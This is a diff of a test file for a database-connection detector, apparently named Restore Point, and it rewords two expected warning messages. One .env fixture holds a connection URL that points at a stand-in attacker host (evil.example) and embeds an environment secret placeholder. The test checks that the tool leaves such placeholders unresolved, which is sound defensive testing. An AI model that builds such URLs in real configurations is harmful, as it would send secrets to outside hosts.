@@ -116,7 +116,7 @@ services:
         'Relative = SQLite rel.db (.vscode/settings.json:6, rel.db)',
         'By URL = PostgreSQL u@db.example.com:5432/by_url (.vscode/settings.json:7)',
         'Checked = PostgreSQL u@db2.example.com:5432/c require (.vscode/settings.json:8)',
-        'Far = PostgreSQL far.example.com:5432/far (.vscode/settings.json:9) ! It goes through an SSH tunnel, which Restore Point does not open',
+        'Far = PostgreSQL far.example.com:5432/far (.vscode/settings.json:9) ! It needs an SSH tunnel, which Restore Point does not support',
         'Old = MySQL ? (.vscode/settings.json:10) ! MySQL is not supported yet',
       ],
       ['data/lite.db', 'rel.db'],
@@ -195,7 +195,7 @@ services:
         '.env':
           "DB_URL='postgres://u@evil.example/${env:SECRET}'\nDB2_URL='postgres://h/${workspaceFolder}'\n",
       },
-      ['PostgreSQL = PostgreSQL ? (.env:1, .env:2) ! Its address contains "${", which nothing replaces'],
+      ['PostgreSQL = PostgreSQL ? (.env:1, .env:2) ! Its address contains "${", which cannot be resolved'],
     ],
   ],
 });
